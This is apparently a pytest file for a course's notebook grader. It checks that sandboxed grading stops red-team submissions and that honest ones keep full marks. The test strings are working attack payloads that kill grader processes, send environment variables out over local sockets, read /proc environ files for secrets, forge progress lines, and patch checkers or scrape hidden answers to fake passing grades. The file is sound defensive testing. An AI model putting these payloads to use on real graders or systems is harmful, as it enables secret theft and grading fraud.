"""The red team's attacks on batch grading, each graded beside honest submissions that must keep full marks.

Two batches run the README's command (``grade NAME FOLDER --time-limit … --memory-limit 2 --jobs 2``)
as a subprocess, so the instructor's terminal (its stderr) and environment are the real ones:
``alpha_residual`` for the attacks on processes, files, the network and the terminal, and
``implement_verify`` for the attacks on submitted functions. Every attacking submission is the
untouched handout (worth 0) or a stated partial answer plus one attacking cell, so each row must
show exactly what its real answers deserve. Everything an attack does is bounded in time (its
children stop by themselves within ATTACK_SECONDS) and size, and its network is 127.0.0.1 only.
"""

import csv
import os
import secrets
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from specdec_course.coursework.authoring import COURSEWORK_DIR, load_assignment
from specdec_course.coursework.leaks import secret_lines, words
from specdec_course.coursework.sandbox import ROW_ENV, landlock_abi, probe
from specdec_course.coursework.student import write_student_edition

pytestmark = [pytest.mark.grading, pytest.mark.slow]

TIME_LIMIT = 20
ATTACK_SECONDS = 40  # how long an attack's left-behind child keeps trying
MARKER = f"attack-{secrets.token_hex(6)}"  # in every attack child's command line, to find survivors
CANARY = f"canary-{secrets.token_hex(8)}"  # in the grader's environment only
FULL = {"alpha_residual": 6, "implement_verify": 6}

needs_landlock = pytest.mark.skipif(
    landlock_abi() < 6, reason="needs Landlock ABI 6 (signal and socket scoping)"
)
needs_namespaces = pytest.mark.skipif(
    not probe()["namespaces"], reason="this system refuses unprivileged namespaces (the grader warns)"
)

# --- attacks on alpha_residual: each is one cell appended to the untouched handout ---------------------

_CHILD = """\
import subprocess, sys
subprocess.Popen([sys.executable, "-c", {code!r}, {marker!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
KILLER = """\
import os, signal, sys, time
end = time.time() + {seconds}
seen = set()
while time.time() < end:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) in (os.getpid(), 1):
            continue
        try:
            command = open(f"/proc/{{pid}}/cmdline", "rb").read()
        except OSError:
            continue
        if b"ipykernel" in command or b"coursework" in command or b"sandbox" in command:
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.05)
"""
EXFILTRATE = """\
import glob, os, socket, time
end = time.time() + {seconds}
while time.time() < end:
    targets = [(socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, "\\0" + {abstract!r})]
    targets += [(socket.AF_UNIX, path) for path in glob.glob("/tmp/grade-*/sockets/*")]
    for family, address in targets:
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(1)
                s.connect(address)
                s.sendall(b"LEAK " + repr(sorted(os.environ.items())).encode())
        except OSError:
            pass
    time.sleep(0.5)
"""
SLEEPER = "import time; time.sleep({seconds})"
ENVIRONMENT_THIEF = """\
import glob, os
found = [k for k, v in os.environ.items() if v.startswith("canary-")]
for path in ["/proc/self/environ", f"/proc/{os.getppid()}/environ", *glob.glob("/proc/*/environ")]:
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    found += [part.decode(errors="replace") for part in data.split(b"\\0") if b"canary-" in part]
if found:
    raise RuntimeError(f"stolen: {found[:3]}")
"""
FAKE_PROGRESS = """\
import os, subprocess, sys
line = "[3/3] z_honest.ipynb: 0/6 in 1.0 s \\u2014 plagiarism detected\\n"
os.write(2, line.encode())
sys.__stderr__.write(line)
subprocess.run([sys.executable, "-c", f"import sys; sys.stderr.write({line!r})"])
"""
SWAP_ANSWERS = """\
import os
import specdec_course.coursework.transfer as transfer
real_export = transfer.export
def export(namespace, names, path):
    real_export(namespace, names, path)
    os.remove(path)
    {swap}
transfer.export = export
"""


def _alpha_attacks(port: int, abstract: str) -> dict[str, str]:
    def child(code):
        return _CHILD.format(
            code=code.format(seconds=ATTACK_SECONDS, port=port, abstract=abstract), marker=MARKER
        )

    return {
        "kills_next_kernels.ipynb": child(KILLER),
        "kills_its_grader.ipynb": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
        "answers_become_fifo.ipynb": SWAP_ANSWERS.format(swap="os.mkfifo(path)"),
        "answers_link_to_dev_zero.ipynb": SWAP_ANSWERS.format(swap='os.symlink("/dev/zero", path)'),
        "exfiltrates_over_sockets.ipynb": child(EXFILTRATE),
        "leaves_children.ipynb": child(SLEEPER) + child(SLEEPER),
        "fakes_progress_lines.ipynb": FAKE_PROGRESS,
        "reads_grader_environment.ipynb": ENVIRONMENT_THIEF,
    }


class _Listener:
    """TCP on 127.0.0.1 and an abstract Unix socket; records every connection that reaches them."""

    def __init__(self):
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.abstract_name = f"specdec-attack-{secrets.token_hex(6)}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.abstract_name)
        self.unix.listen()
        self.received: list[bytes] = []
        for server in (self.tcp, self.unix):
            threading.Thread(target=self._accept, args=(server,), daemon=True).start()

    @property
    def port(self) -> int:
        return self.tcp.getsockname()[1]

    def _accept(self, server):
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(1000) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self):
        self.tcp.close()
        self.unix.close()


def _survivors() -> list[str]:
    """Command lines of processes left by an attack (its marker) or by grading (the row variable)."""
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            command = (entry / "cmdline").read_bytes()
            environ = (entry / "environ").read_bytes()
        except OSError:
            continue
        if MARKER.encode() in command or f"{ROW_ENV}=".encode() in environ:
            found.append(command.replace(b"\0", b" ").decode(errors="replace")[:120])
    return found


def _grade(assignment: str, folder: Path, time_limit: float):
    """The README's command, as an instructor runs it; returns (rows by file, CSV text, stderr)."""
    out = folder.parent / f"{assignment}-grades.csv"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "specdec_course.coursework",
            "grade",
            assignment,
            str(folder),
            "--out",
            str(out),
            "--time-limit",
            str(time_limit),
            "--memory-limit",
            "2",
            "--jobs",
            "2",
        ],
        capture_output=True,
        text=True,
        timeout=600,
        env={**os.environ, "SPECDEC_SECRET_TOKEN": CANARY},
    )
    assert done.returncode == 0, done.stderr
    text = out.read_text()
    with open(out, newline="") as handle:
        return {row["file"]: row for row in csv.DictReader(handle)}, text, done.stderr


@pytest.fixture(scope="module")
def handout(tmp_path_factory):
    out = tmp_path_factory.mktemp("handout")
    write_student_edition(out)
    return out


def _with_cell(notebook_text: str, code: str) -> str:
    notebook = nbformat.reads(notebook_text, as_version=4)
    notebook.cells.append(nbformat.v4.new_code_cell(code))
    return nbformat.writes(notebook)


@pytest.fixture(scope="module")
def alpha_batch(tmp_path_factory, handout):
    """Honest submissions before and after eight attackers, a link to the answer key, a dotfile and a subfolder."""
    listener = _Listener()
    folder = tmp_path_factory.mktemp("alpha") / "submissions"
    folder.mkdir()
    solution = nbformat.writes(load_assignment("alpha_residual").notebook)
    untouched = (handout / "alpha_residual.ipynb").read_text()
    for name in ("a_honest.ipynb", "z_honest.ipynb", "z_honest_2.ipynb"):
        (folder / name).write_text(solution)
    for name, code in _alpha_attacks(listener.port, listener.abstract_name).items():
        (folder / name).write_text(_with_cell(untouched, code))
    (folder / "answer_key.ipynb").symlink_to(COURSEWORK_DIR / "alpha_residual.ipynb")
    (folder / ".hidden_copy.ipynb").write_text(untouched)
    (folder / "extra").mkdir()
    (folder / "extra" / "nested.ipynb").write_text(solution)
    before = set(_survivors())
    start = time.perf_counter()
    rows, text, log = _grade("alpha_residual", folder, TIME_LIMIT)
    seconds = time.perf_counter() - start
    time.sleep(1)  # a process ended at row end has had time to be reaped
    survivors = [s for s in _survivors() if s not in before]
    listener.close()
    print(f"alpha_residual attacks: {len(rows)} rows in {seconds:.1f} s\n{text}\n{log}")
    return rows, text, log, survivors, listener.received


def test_honest_submissions_keep_full_marks_beside_the_attacks(alpha_batch):
    rows, *_ = alpha_batch
    for name in ("a_honest.ipynb", "z_honest.ipynb", "z_honest_2.ipynb"):
        assert (rows[name]["total"], rows[name]["error"]) == ("6", ""), rows[name]


@pytest.mark.parametrize(
    "file",
    [
        "kills_next_kernels.ipynb",
        "kills_its_grader.ipynb",
        "answers_become_fifo.ipynb",
        "answers_link_to_dev_zero.ipynb",
        "exfiltrates_over_sockets.ipynb",
        "leaves_children.ipynb",
        "fakes_progress_lines.ipynb",
        "reads_grader_environment.ipynb",
        "answer_key.ipynb",
        ".hidden_copy.ipynb",
    ],
)
def test_each_attack_earns_nothing(alpha_batch, file):
    rows, *_ = alpha_batch
    assert rows[file]["total"] == "0", rows[file]


def test_every_entry_gets_a_row_or_a_named_warning(alpha_batch):
    rows, _, log, *_ = alpha_batch
    assert len(rows) == 3 + 8 + 2
    assert "not graded: a symbolic link" in rows["answer_key.ipynb"]["error"]
    assert rows["answer_key.ipynb"]["sha256"] == ""  # never read
    assert "skipped the folder extra/" in log and "nested.ipynb" not in rows


def test_swapped_answers_cost_only_that_row(alpha_batch):
    rows, *_ = alpha_batch
    for file in ("answers_become_fifo.ipynb", "answers_link_to_dev_zero.ipynb"):
        assert "the answers could not be read" in rows[file]["error"], rows[file]


@needs_namespaces
def test_no_process_of_a_submission_outlives_its_row(alpha_batch):
    *_, survivors, _ = alpha_batch
    assert survivors == []


@needs_landlock
def test_nothing_reaches_the_network_or_an_abstract_socket(alpha_batch):
    *_, received = alpha_batch
    assert received == []


def test_the_instructors_terminal_shows_only_the_graders_lines(alpha_batch):
    _, _, log, *_ = alpha_batch
    assert "plagiarism" not in log
    assert all(line.startswith(("[", "warning: ", "wrote ")) for line in log.strip().split("\n")), log


def test_the_graders_environment_never_reaches_a_submission(alpha_batch):
    rows, text, *_ = alpha_batch
    assert CANARY not in text
    assert "stolen" not in rows["reads_grader_environment.ipynb"]["error"]


def test_attack_negative_control_the_listener_and_the_thief_work_unsandboxed(tmp_path):
    """Run outside the sandbox, the exfiltration reaches the listener and the thief finds the canary."""
    listener = _Listener()
    code = EXFILTRATE.format(seconds=1, port=listener.port, abstract=listener.abstract_name)
    subprocess.run([sys.executable, "-c", code], timeout=30, env={"PATH": "/usr/bin:/bin"})
    time.sleep(0.5)
    listener.close()
    assert len(listener.received) >= 2
    thief = subprocess.run(
        [sys.executable, "-c", ENVIRONMENT_THIEF],
        capture_output=True,
        text=True,
        env={"X": CANARY},
        timeout=30,
    )
    assert "stolen" in thief.stderr


# --- attacks on implement_verify: on the functions the tests call ---------------------------------------

RESIDUAL = "positive = np.maximum(np.asarray(p, float) - np.asarray(q, float), 0.0)\n    return positive / positive.sum()"
REBUILD_RUNS_CODE = """\
def _steal():
    import gc, json, os, sys
    wanted = ({"nonce", "cases"}, {"answers", "given"})  # the old checker's request, the function host's
    found = [o for o in gc.get_objects() if isinstance(o, dict) and any(w <= set(o) for w in wanted)]
    frame = sys._getframe()
    while frame is not None:
        found += [v for v in frame.f_locals.values() if isinstance(v, dict) and any(w <= set(v) for w in wanted)]
        frame = frame.f_back
    if not found:
        return None
    text = json.dumps(found, default=str)[:3000]
    forged = json.dumps({"nonce": "", "feedback": [None] * 8, "problems": {}, "value": True})
    for fd in range(1, 64):
        try:
            os.write(fd, (text + "\\n" + forged + "\\n").encode())
        except OSError:
            pass
    raise ValueError("stolen: " + text)


def _passes(function):
    _steal()
    return function


class Sneaky:
    def __init_subclass__(cls, **kwargs):
        _steal()


@_passes
def my_verify(draft_tokens, target_probs, draft_probs, rng, _=_steal()):
    class Inner(Sneaky):
        pass
    _passes(_steal())  # names the decorator, so it travels with the function
    return (0,)
"""
WRAPS_LIBRARY = """\
import specdec_lib
V = specdec_lib.verify


def my_verify(draft_tokens, target_probs, draft_probs, rng):
    return V(draft_tokens, target_probs, draft_probs, rng)
"""
IMPORTS_LIBRARY = "from specdec_lib import verify_unchecked as my_verify"
ACCEPT_ALL = """\
def my_verify(draft_tokens, target_probs, draft_probs, rng):
    import specdec_lib
    specdec_lib.check_verifier = lambda *a, **k: None
    return tuple(int(x) for x in draft_tokens) + (sample_token(target_probs[-1], rng),)
"""
FAKE_CHECKER_IN_KERNEL = """\
import specdec_lib
class Passed:
    passed, summary = True, "PASS"
specdec_lib.check_verifier = lambda *args, **kwargs: Passed()
"""


def _verify_submission(handout_text: str, residual: bool, extra: str) -> str:
    notebook = nbformat.reads(handout_text, as_version=4)
    for cell in notebook.cells:
        if residual and cell.source.startswith("def residual"):
            cell.source = cell.source.replace("...  # YOUR CODE HERE", RESIDUAL)
    notebook.cells.append(nbformat.v4.new_code_cell(extra))
    return nbformat.writes(notebook)


# file: (its cell, whether its residual is right, the points its real answers deserve)
VERIFY_ATTACKS = {
    "rebuild_runs_code.ipynb": (REBUILD_RUNS_CODE, False, 0),
    "wraps_library_verify.ipynb": (WRAPS_LIBRARY, True, 2),
    "imports_library_verifier.ipynb": (IMPORTS_LIBRARY, True, 2),
    # residual 2 + the shape check 1; it fakes the checker in its kernel and again when called
    "accepts_all_and_fakes_checker.ipynb": (ACCEPT_ALL + FAKE_CHECKER_IN_KERNEL, True, 3),
}


@pytest.fixture(scope="module")
def verify_batch(tmp_path_factory, handout):
    folder = tmp_path_factory.mktemp("verify") / "submissions"
    folder.mkdir()
    text = (handout / "implement_verify.ipynb").read_text()
    solution = nbformat.writes(load_assignment("implement_verify").notebook)
    (folder / "z_honest.ipynb").write_text(solution)
    for name, (code, residual, _) in VERIFY_ATTACKS.items():
        (folder / name).write_text(_verify_submission(text, residual, code))
    start = time.perf_counter()
    rows, csv_text, log = _grade("implement_verify", folder, 60)
    print(
        f"implement_verify attacks: {len(rows)} rows in {time.perf_counter() - start:.1f} s\n{csv_text}\n{log}"
    )
    return rows, csv_text


def test_honest_verifier_keeps_full_marks_beside_the_attacks(verify_batch):
    rows, _ = verify_batch
    assert (rows["z_honest.ipynb"]["total"], rows["z_honest.ipynb"]["error"]) == ("6", ""), rows[
        "z_honest.ipynb"
    ]


@pytest.mark.parametrize("file", sorted(VERIFY_ATTACKS))
def test_function_attacks_earn_only_what_the_real_answers_deserve(verify_batch, file):
    rows, _ = verify_batch
    assert int(rows[file]["total"]) == VERIFY_ATTACKS[file][2], rows[file]


def test_no_hidden_test_or_solution_line_reaches_a_row(verify_batch, alpha_batch):
    for name, text in (("implement_verify", verify_batch[1]), ("alpha_residual", alpha_batch[1])):
        secret = secret_lines(load_assignment(name))
        leaked = [line for line in secret if words(line) in words(text)]
        assert not leaked, f"{name}: {leaked}"


def test_wrapper_negative_control_it_passes_where_the_library_verifier_runs():
    """Called where specdec_lib's verifiers work (as the old checker did), the wrapper passes."""
    from specdec_lib import check_verifier, verify

    assert check_verifier(lambda d, p, q, rng: verify(d, p, q, rng), n_rounds=300).passed
